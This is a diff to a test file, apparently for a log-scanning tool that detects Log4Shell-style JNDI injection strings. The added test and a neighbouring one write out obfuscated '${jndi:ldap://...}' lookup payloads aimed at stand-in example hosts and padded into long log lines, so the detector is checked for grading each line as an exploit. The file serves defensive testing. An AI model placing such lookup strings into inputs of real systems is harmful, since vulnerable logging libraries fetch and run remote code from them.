@@ -202,6 +202,12 @@ class Hostile(Case):
         done = self.run_cli("detect", "-j", 2, path, status=1)
         self.assertIn(b"100,000 attempts: 100,000 exploit", done.stdout)
 
+    def test_an_attack_of_half_a_window_is_found_wherever_it_lies_in_a_long_line(self):
+        text = "${${x" + "a" * 30000 + ":-j}ndi:ldap://h.example/a}"
+        lines = [f"${{a}} {'p' * before}{text}{'z' * 9000}\n" for before in range(30000, 66000, 1500)]
+        events = self.events(self.write("long.log", "".join(lines)), status=1)
+        self.assertEqual([(e["caltrop"]["line"], e["caltrop"]["grade"]) for e in events], [(n + 1, "exploit") for n in range(len(lines))])
+
     def test_attacks_of_the_longest_kind_end_no_run(self):
         text = "".join("${jndi:ldap://%s%d.example:1389/%s}" % ("x" * 200, n, '\\x01"\x01\xe9' * 900) for n in range(17))
         path = self.write("a.log", text + "\n" + attack(2))
